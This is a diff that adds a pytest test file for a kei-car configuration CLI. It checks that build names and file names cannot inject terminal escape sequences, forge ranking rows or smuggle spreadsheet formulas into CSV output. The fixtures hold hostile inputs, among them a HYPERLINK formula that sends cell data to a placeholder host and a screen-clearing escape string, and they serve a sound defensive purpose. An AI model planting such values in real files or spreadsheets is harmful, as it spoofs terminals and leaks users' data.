@@ -1,0 +1,122 @@
+"""Names and file names from other people reach the terminal and spreadsheets as text
+(issue 11, finding 4; rank's era from issue 10)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from keiconfig import cli
+from keiconfig.core import files
+from keiconfig.core.build import changed, default_build
+
+ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"
+FORGED = "Real\n1   forged.kei.json  Forged  1.00  1998  complies"
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+
+
+def run(capsys, *argv):
+    code = cli.main(list(argv))
+    out, err = capsys.readouterr()
+    assert "Traceback" not in out + err
+    return code, out, err
+
+
+def save(folder: Path, file: str, name: str, **updates) -> Path:
+    path = folder / file
+    files.save_build(changed(default_build(), {"name": name, **updates}), path)
+    return path
+
+
+def test_escape_sequences_in_a_name_are_shown_not_obeyed(capsys, tmp_path: Path) -> None:
+    path = save(tmp_path, "car.kei.json", "Car" + ESCAPES)
+    for command in (["evaluate", str(path)], ["rank", str(tmp_path)], ["validate", str(path)]):
+        code, out, err = run(capsys, *command)
+        assert "\x1b" not in out + err and "\x07" not in out + err, command
+    code, out, _ = run(capsys, "evaluate", str(path))
+    assert code == 0 and "Car\\x1b]0;pwned\\x07" in out
+
+
+def test_control_characters_in_a_file_name_are_escaped(capsys, tmp_path: Path) -> None:
+    path = save(tmp_path, "bad\x1b[2J.kei.json", "Car")
+    code, out, _ = run(capsys, "validate", str(path))
+    assert code == 0 and "\x1b" not in out and "bad\\x1b[2J.kei.json: ok" in out
+    broken = tmp_path / "cut\x1b[2J.json"
+    broken.write_text("{")
+    _code, out, _ = run(capsys, "rank", str(tmp_path))
+    assert "\x1b" not in out
+
+
+def test_a_newline_in_a_name_cannot_forge_a_ranking_row(capsys, tmp_path: Path) -> None:
+    save(tmp_path, "a.kei.json", FORGED)
+    save(tmp_path, "b.kei.json", "Honest")
+    code, out, _ = run(capsys, "rank", str(tmp_path))
+    assert code == 0
+    lines = out.splitlines()
+    assert not any(line.lstrip().startswith("1   forged") for line in lines)
+    rows = [line for line in lines if line.lstrip()[:1].isdigit()]
+    assert len(rows) == 2 and any("Real\\n1   forged" in row for row in rows)
+
+
+def test_csv_cells_that_look_like_formulas_are_text(capsys, tmp_path: Path) -> None:
+    builds = tmp_path / "class"
+    builds.mkdir()
+    save(builds, "a.kei.json", FORMULA)
+    save(builds, "b.kei.json", "+1+1")
+    save(builds, "c.kei.json", "-2")
+    save(builds, "d.kei.json", "@SUM(A1)")
+    save(builds, "e.kei.json", "\tTabbed")
+    save(builds, "=f.kei.json", "Fine name")
+    out_csv = tmp_path / "table.csv"
+    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(out_csv))
+    assert code == 0
+    table = list(csv.DictReader(io.StringIO(out_csv.read_text())))
+    names = {r["name"] for r in table}
+    assert names == {"'" + FORMULA, "'+1+1", "'-2", "'@SUM(A1)", "'\tTabbed", "Fine name"}
+    assert "'=f.kei.json" in {r["file"] for r in table}
+    assert {r["era"] for r in table} == {"1998"}
+
+
+@pytest.mark.skipif(os.name != "posix", reason="POSIX special files")
+def test_rank_csv_refuses_special_files_and_writes_through_links(capsys, tmp_path: Path) -> None:
+    builds = tmp_path / "class"
+    builds.mkdir()
+    save(builds, "a.kei.json", "A")
+    fifo = tmp_path / "pipe.csv"
+    os.mkfifo(fifo)
+    code, _, err = run(capsys, "rank", str(builds), "--csv", str(fifo))
+    assert code == 1 and "named pipe" in err
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+    null_link = tmp_path / "null.csv"
+    null_link.symlink_to(os.devnull)
+    code, _, err = run(capsys, "rank", str(builds), "--csv", str(null_link))
+    assert code == 1 and "device" in err and null_link.is_symlink()
+    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)
+    real = tmp_path / "real.csv"
+    real.write_text("old\n")
+    link = tmp_path / "link.csv"
+    link.symlink_to(real)
+    code, _, _ = run(capsys, "rank", str(builds), "--csv", str(link))
+    assert code == 0 and link.is_symlink() and real.read_text().startswith("rank,file")
+
+
+def test_rank_says_which_rules_judged(capsys, tmp_path: Path) -> None:
+    save(tmp_path, "a.kei.json", "Old", year=1960)
+    _code, out, _ = run(capsys, "rank", str(tmp_path))
+    assert "current kei rules (1998)" in out
+    _code, out, _ = run(capsys, "rank", str(tmp_path), "--era", "1955")
+    assert "kei rules of 1955" in out and " 1955 " in out.splitlines()[-1] + " "
+    _code, out, _ = run(capsys, "rank", str(tmp_path), "--use-year")
+    assert "of its year" in out
+
+
+def test_a_file_name_starting_with_a_dash_opens_after_double_dash(monkeypatch) -> None:
+    opened: list[str | None] = []
+    monkeypatch.setattr(cli, "run_gui", lambda path: opened.append(path) or 0)
+    assert cli.main(["--", "-x.kei.json"]) == 0
+    assert opened == ["-x.kei.json"]
